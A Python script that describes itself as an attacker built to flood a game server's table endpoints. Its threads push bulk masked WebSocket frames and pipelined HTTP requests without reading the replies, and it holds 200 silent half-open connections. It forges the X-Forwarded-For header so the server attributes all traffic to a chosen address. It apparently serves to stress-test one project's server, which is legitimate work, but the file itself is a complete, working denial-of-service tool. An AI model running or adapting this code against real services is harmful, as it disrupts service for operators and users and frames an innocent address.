"""An attacker as fast as it can be: `flood.py HOST:PORT GAME ADDRESS`, until it is killed.

Several threads open sockets and send frames without reading, ask over HTTP, and open connections that say nothing. The server is told,
as by a proxy, that all of it comes from ADDRESS. A line is printed once it has begun.
"""

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable

FRAMES_AT_ONCE = 200
HALF_OPEN = 200  # connections that say nothing


def masked(text: str) -> bytes:
    """A frame of a client, as bytes."""
    body, key = text.encode(), os.urandom(4)
    length = bytes([0x80 | len(body)]) if len(body) < 126 else b"\xfe" + len(body).to_bytes(2)
    return b"\x81" + length + key + bytes(byte ^ key[place % 4] for place, byte in enumerate(body))


def frame(type: str, game: str) -> bytes:
    """A frame of this type, as bytes."""
    return masked(json.dumps({"v": 1, "id": "a" * 40, "game": game, "ply": 0, "type": type, "seat": None}))


def open_socket(connection: socket.socket, game: str, address: str) -> None:
    """Go to a table by this connection; raises `OSError` if that is refused."""
    host, port = connection.getpeername()
    head = (
        f"GET /api/tables/{game}/socket HTTP/1.1\r\nHost: {host}:{port}\r\nX-Forwarded-For: {address}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    )
    connection.sendall(head.encode())
    if b" 101 " not in connection.recv(4096):
        raise ConnectionRefusedError
    connection.sendall(frame("hello", game))


def flood_socket(server: tuple[str, int], game: str, address: str) -> None:
    """Open a socket and fill it."""
    sync = frame("sync", game)
    with socket.create_connection(server, timeout=2) as one:
        open_socket(one, game, address)
        while True:
            one.sendall(sync * FRAMES_AT_ONCE)


def flood_http(server: tuple[str, int], game: str, address: str) -> None:
    """Ask for a table again and again over one connection, reading nothing."""
    head = f"GET /api/tables/{game} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {address}\r\n\r\n".encode()
    with socket.create_connection(server, timeout=2) as one:
        while True:
            one.sendall(head * FRAMES_AT_ONCE)


def main() -> None:
    """Attack."""
    host, _, port = sys.argv[1].partition(":")
    server, game, address = (host, int(port)), *sys.argv[2:]

    def again(attack: Callable[[tuple[str, int], str, str], None]) -> None:
        while True:
            try:
                attack(server, game, address)
            except OSError:
                time.sleep(0.001)

    held = [socket.create_connection(server) for _ in range(HALF_OPEN)]
    for attack in (flood_socket, flood_socket, flood_socket, flood_http):
        threading.Thread(target=again, args=(attack,), daemon=True).start()
    print(f"{len(held)} connections are open", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
